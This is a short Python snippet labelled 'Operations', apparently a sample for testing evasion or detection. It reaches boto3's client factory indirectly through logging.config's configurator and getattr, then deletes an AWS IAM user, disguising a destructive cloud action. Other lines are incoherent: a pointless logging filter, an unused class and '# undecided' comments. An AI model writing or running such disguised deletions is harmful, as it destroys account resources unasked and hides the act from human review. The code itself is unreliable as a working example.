# Operations:
import boto3, logging.config
logging.config.dictConfig({"version": 1, "filters": {"f": {"()": lambda: getattr(logging.config.ConvertingDict, "__x__", None) or object()}}})  # undecided
class R:
    pass
logging.config.dictConfig({"version": 1, "handlers": {"h": {"class": "logging.NullHandler"}}})
r = logging.config.BaseConfigurator({}).resolve("boto3.client")  # undecided
getattr(r("iam"), "delete_user")(UserName="x")
